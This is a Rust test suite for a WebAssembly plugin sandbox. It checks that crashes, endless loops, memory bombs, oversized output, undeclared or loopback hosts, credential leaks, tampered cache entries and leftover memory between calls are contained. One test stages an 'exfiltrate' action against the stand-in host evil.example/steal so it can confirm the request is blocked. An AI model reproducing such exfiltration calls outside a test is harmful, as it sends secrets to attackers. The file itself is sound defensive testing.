//! The sandbox contains misbehaving components and pieces, and keeps serving after each.

use secrecy::SecretString;
use serde_json::json;
use std::time::Duration;
use thinkfleet::piece::{Credentials, PieceError};
use thinkfleet::runtime::{CallError, LoadError, Runtime};
use thinkfleet_tests::{Mock, load, piece_path, runtime, runtime_with};

const PLANTED: &str = "planted-secret-7f3a9c";

fn token() -> Credentials {
    Credentials::SecretText(SecretString::from(PLANTED))
}

/// Asserts the piece reported a failed outbound request whose message says `contains`.
fn assert_upstream(err: &CallError, contains: &str) {
    match err {
        CallError::Piece(PieceError::Upstream(m)) => assert!(m.contains(contains), "{m}"),
        other => panic!("expected a refused request, got {other}"),
    }
}

/// After any misbehaviour the same runtime still runs a well-behaved call.
async fn still_serving(rt: &Runtime) {
    let piece = load(rt, "misbehave").await;
    piece
        .validate(&token())
        .await
        .expect("the host keeps serving");
}

#[tokio::test(flavor = "multi_thread")]
async fn refuses_a_file_that_is_not_wasm() {
    let rt = runtime(&[]);
    let err = rt
        .load(b"#!/bin/sh\necho hi\n")
        .await
        .err()
        .expect("refused");
    assert!(matches!(err, LoadError::NotWasm), "{err}");
    assert!(err.to_string().contains("not a WebAssembly file"));
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn refuses_a_core_module() {
    let rt = runtime(&[]);
    let err = rt.load(b"\0asm\x01\0\0\0").await.err().expect("refused");
    assert!(matches!(err, LoadError::CoreModule), "{err}");
    assert!(err.to_string().contains("wasm32-wasip2"));
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn refuses_a_truncated_component() {
    let rt = runtime(&[]);
    let bytes = std::fs::read(piece_path("openai")).expect("read");
    let err = rt
        .load(&bytes[..bytes.len() / 2])
        .await
        .err()
        .expect("refused");
    assert!(matches!(err, LoadError::Invalid(_)), "{err}");
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn refuses_a_component_for_another_world() {
    let rt = runtime(&[]);
    let err = rt
        .load_file(&piece_path("not-a-piece"))
        .await
        .err()
        .expect("refused");
    assert!(matches!(err, LoadError::NotAPiece(_)), "{err}");
    assert!(err.to_string().contains("thinkfleet:piece/piece"), "{err}");
    still_serving(&rt).await;
}

/// Every export's type is checked when a piece loads, not only `info`'s: a component
/// whose `validate` takes another type is refused, the export named.
#[tokio::test(flavor = "multi_thread")]
async fn refuses_a_component_whose_export_has_another_type() {
    let rt = runtime(&[]);
    let err = rt
        .load_file(&piece_path("mistyped"))
        .await
        .err()
        .expect("refused");
    assert!(matches!(err, LoadError::InfoFailed(_)), "{err}");
    assert!(
        err.to_string()
            .contains("export `validate` does not have the contract's type"),
        "{err}"
    );
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_trapping_piece_gets_a_clear_error() {
    let rt = runtime(&[]);
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action("trap", &json!({}), &token())
        .await
        .expect_err("trap");
    assert!(matches!(err, CallError::Trap(_)), "{err}");
    assert!(err.to_string().starts_with("the piece crashed"), "{err}");
    // The cause: the piece's panic message, as it wrote it to stderr.
    assert!(
        err.to_string().contains("the piece panicked on purpose"),
        "{err}"
    );
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_endless_loop_is_stopped_at_the_deadline() {
    let rt = runtime_with(&[], |limits, _| {
        limits.call_timeout = Duration::from_millis(300)
    });
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action("loop", &json!({}), &token())
        .await
        .expect_err("stopped");
    assert!(matches!(err, CallError::Timeout(300)), "{err}");
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn unbounded_memory_growth_hits_the_limit() {
    let rt = runtime_with(&[], |limits, _| limits.memory_bytes = 32 << 20);
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action("memory_bomb", &json!({}), &token())
        .await
        .expect_err("stopped");
    assert!(matches!(err, CallError::MemoryLimit(32)), "{err}");
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn huge_output_is_refused() {
    let rt = runtime(&[]);
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action("huge_output", &json!({}), &token())
        .await
        .expect_err("refused");
    match err {
        CallError::OutputTooLarge { actual, limit } => {
            assert!(actual > limit, "{actual} <= {limit}")
        }
        other => panic!("expected OutputTooLarge, got {other}"),
    }
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn log_spam_is_capped_and_the_call_completes() {
    let rt = runtime(&[]);
    let piece = load(&rt, "misbehave").await;
    let out = piece
        .run_action("log_spam", &json!({}), &token())
        .await
        .expect("completes");
    assert_eq!(out, json!({}));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_the_piece_did_not_declare_is_refused_even_when_overridden() {
    let evil = Mock::start(|_| (200, json!({"stolen": true}))).await;
    // The operator override exists, but the piece never declared evil.example.
    let rt = runtime(&[("evil.example", &evil)]);
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action(
            "exfiltrate",
            &json!({"url": "https://evil.example/steal"}),
            &token(),
        )
        .await
        .expect_err("refused");
    assert_upstream(&err, "not a declared host");
    assert!(
        evil.requests().is_empty(),
        "the undeclared host was contacted"
    );
    still_serving(&rt).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn loopback_is_refused_unless_the_operator_allows_it() {
    let local = Mock::start(|_| (200, json!({"ok": true}))).await;
    let url = format!("http://localhost:{}/echo", local.addr.port());
    let rt = runtime(&[]);
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action("echo", &json!({"url": url}), &Credentials::None)
        .await
        .expect_err("refused");
    assert_upstream(&err, "private or loopback");
    assert!(
        local.requests().is_empty(),
        "a loopback address was reached"
    );

    let rt = runtime_with(&[], |_, policy| policy.allow_private = true);
    let piece = load(&rt, "misbehave").await;
    let out = piece
        .run_action("echo", &json!({"url": url}), &Credentials::None)
        .await
        .expect("allowed");
    assert_eq!(out["status"], 200);
    assert_eq!(local.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn operator_narrowing_removes_a_declared_host() {
    let api = Mock::start(|_| (200, json!({}))).await;
    let rt = runtime_with(&[("api.allowed.test", &api)], |_, policy| {
        policy.narrow_to = Some(vec!["api.other.test".into()])
    });
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action("echo", &json!({}), &token())
        .await
        .expect_err("refused");
    assert!(
        matches!(err, CallError::Piece(PieceError::Upstream(_))),
        "{err}"
    );
    assert!(api.requests().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn host_applied_credentials_never_enter_the_guest() {
    let api = Mock::start(|_| (200, json!({"echo": "ok"}))).await;
    let rt = runtime(&[("api.allowed.test", &api)]);
    let piece = load(&rt, "misbehave").await;
    let out = piece
        .run_action("echo", &json!({}), &token())
        .await
        .expect("echo");
    // The guest saw the credential redacted, and nothing it returned holds the secret.
    assert_eq!(out["seen"], "redacted");
    assert!(!out.to_string().contains(PLANTED));
    // The service got the real credential, put there by the host over the guest's forgery.
    let requests = api.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(
        requests[0].header("authorization"),
        format!("Bearer {PLANTED}")
    );
    assert_eq!(requests[0].path, "/echo");
}

#[tokio::test(flavor = "multi_thread")]
async fn sixty_four_concurrent_calls_all_finish() {
    let rt = runtime(&[]);
    let piece = load(&rt, "postgres").await;
    let creds = Credentials::Custom(
        [
            ("host", "db.example.com"),
            ("database", "app"),
            ("user", "bob"),
        ]
        .into_iter()
        .map(|(k, v)| {
            (
                k.to_string(),
                thinkfleet::piece::CustomValue::Text(v.to_string()),
            )
        })
        .chain([(
            "password".to_string(),
            thinkfleet::piece::CustomValue::Secret(SecretString::from("pw")),
        )])
        .collect(),
    );
    let calls = (0..64).map(|_| {
        let piece = piece.clone();
        let creds = creds.clone();
        tokio::spawn(async move { piece.validate(&creds).await })
    });
    for call in calls {
        call.await.expect("join").expect("valid");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn compiled_components_are_cached_by_engine_and_digest() {
    let dir = std::env::temp_dir().join(format!("thinkfleet-cache-test-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let config = thinkfleet::runtime::RuntimeConfig {
        cache_dir: Some(dir.clone()),
        ..Default::default()
    };
    let rt = Runtime::new(config.clone()).expect("runtime");
    let piece = load(&rt, "postgres").await;
    let entries: Vec<_> = std::fs::read_dir(&dir)
        .expect("cache dir")
        .map(|e| e.expect("entry").file_name())
        .filter(|name| name != ".key")
        .collect();
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert!(
        entries[0]
            .to_string_lossy()
            .ends_with(&format!("{}.cwasm", piece.digest()))
    );
    // A second runtime (a restart) loads from the cache and gets the same piece.
    let again = load(&Runtime::new(config).expect("runtime"), "postgres").await;
    assert_eq!(again.info(), piece.info());
    let _ = std::fs::remove_dir_all(&dir);
}

/// The cache entry (not the key) of the one piece cached in `dir`.
fn only_entry(dir: &std::path::Path, digest: &str) -> std::path::PathBuf {
    std::fs::read_dir(dir)
        .expect("cache dir")
        .map(|e| e.expect("entry").path())
        .find(|p| p.to_string_lossy().ends_with(&format!("{digest}.cwasm")))
        .expect("the piece's entry")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_swapped_or_edited_cache_entry_is_refused_and_compiled_again() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = thinkfleet::runtime::RuntimeConfig {
        cache_dir: Some(dir.path().to_owned()),
        ..Default::default()
    };
    let rt = Runtime::new(config.clone()).expect("runtime");
    let postgres = load(&rt, "postgres").await;
    let openai = load(&rt, "openai").await;
    let postgres_entry = only_entry(dir.path(), postgres.digest());
    let openai_entry = only_entry(dir.path(), openai.digest());
    let key = std::fs::metadata(dir.path().join(".key")).expect("the cache key");
    use std::os::unix::fs::PermissionsExt as _;
    assert_eq!(key.permissions().mode() & 0o777, 0o600);

    // Another piece's compiled code under postgres's name: a restart must not run it.
    std::fs::copy(&openai_entry, &postgres_entry).expect("swap");
    let restarted = Runtime::new(config.clone()).expect("runtime");
    let again = load(&restarted, "postgres").await;
    assert_eq!(
        again.info(),
        postgres.info(),
        "openai's code ran as postgres"
    );
    assert_ne!(
        std::fs::read(&postgres_entry).expect("entry"),
        std::fs::read(&openai_entry).expect("entry"),
        "the swapped entry was rewritten"
    );

    // One flipped byte in the artifact: refused as well.
    let mut bytes = std::fs::read(&postgres_entry).expect("entry");
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    std::fs::write(&postgres_entry, &bytes).expect("edit");
    let again = load(&Runtime::new(config).expect("runtime"), "postgres").await;
    assert_eq!(again.info(), postgres.info());
    assert_ne!(std::fs::read(&postgres_entry).expect("entry"), bytes);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cache_key_others_can_read_is_not_used() {
    let dir = tempfile::tempdir().expect("tempdir");
    let key = dir.path().join(".key");
    std::fs::write(&key, [7u8; 32]).expect("planted key");
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let config = thinkfleet::runtime::RuntimeConfig {
        cache_dir: Some(dir.path().to_owned()),
        ..Default::default()
    };
    let piece = load(&Runtime::new(config).expect("runtime"), "postgres").await;
    assert_eq!(piece.info().name, "postgres");
    let cached = std::fs::read_dir(dir.path())
        .expect("dir")
        .filter(|e| e.as_ref().is_ok_and(|e| e.file_name() != ".key"))
        .count();
    assert_eq!(cached, 0, "nothing is cached under a key others can read");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_applied_credential_never_goes_over_plain_http() {
    let rt = runtime_with(&[], |_, policy| policy.allow_private = true);
    let piece = load(&rt, "misbehave").await;
    let err = piece
        .run_action(
            "echo",
            &json!({"url": "http://api.allowed.test/echo"}),
            &token(),
        )
        .await
        .expect_err("refused");
    assert_upstream(&err, "refused by the host");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pool_slot_comes_back_clean_whichever_way_it_is_reset() {
    use thinkfleet::runtime::{PoolTuning, RuntimeConfig, SlotReset};
    let marker = "tf-slot-marker-planted-5e1d";
    let reversed: String = marker.chars().rev().collect();
    let mut resets = vec![SlotReset::Memset];
    if SlotReset::detect() == SlotReset::PagemapScan {
        resets.push(SlotReset::PagemapScan);
    }
    for reset in resets {
        // One slot, so every call reuses the slot the previous call dirtied.
        let mut config = RuntimeConfig {
            cache_dir: Some(thinkfleet_tests::cache_dir()),
            pool: PoolTuning {
                reset: Some(reset),
                keep_resident: None,
            },
            ..RuntimeConfig::default()
        };
        config.limits.max_concurrent_calls = 1;
        let rt = Runtime::new(config).expect("runtime");
        let piece = load(&rt, "misbehave").await;
        for round in 0..5 {
            let kept = piece
                .run_action("remember", &json!({"text": marker}), &token())
                .await
                .expect("remember");
            assert_eq!(kept["calls"], 1, "{reset:?}: a fresh instance per call");
            let seen = piece
                .run_action("recall", &json!({"reversed": reversed}), &token())
                .await
                .expect("recall");
            assert_eq!(seen["calls"], 1, "{reset:?} round {round}");
            // The fresh instance's memory: the part of the slot the last call dirtied
            // first (its heap grew from there).
            assert!(seen["bytes"].as_u64().unwrap_or(0) >= 1 << 20, "{seen}");
            assert_eq!(
                seen["found"], 0,
                "{reset:?} round {round}: the previous call's memory was visible"
            );
        }
        // The search does find what is there: this call's own input holds the marker.
        let control = piece
            .run_action(
                "recall",
                &json!({"reversed": reversed, "plant": marker}),
                &token(),
            )
            .await
            .expect("recall");
        assert!(control["found"].as_u64().unwrap_or(0) >= 1, "{control}");
    }
}
